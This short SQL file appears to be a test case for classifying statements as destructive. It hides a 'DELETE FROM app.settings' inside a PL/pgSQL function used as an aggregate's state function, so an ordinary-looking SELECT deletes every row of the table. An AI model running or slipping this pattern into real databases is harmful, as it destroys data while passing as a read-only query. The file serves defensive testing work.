-- class: destructive|unknown
-- an aggregate is two functions
CREATE FUNCTION app.step(int, int) RETURNS int LANGUAGE plpgsql AS $$ BEGIN DELETE FROM app.settings; RETURN 1; END $$;
CREATE AGGREGATE app.total(int) (sfunc = app.step, stype = int, initcond = '0');
SELECT app.total(n) FROM (VALUES (1)) v(n);
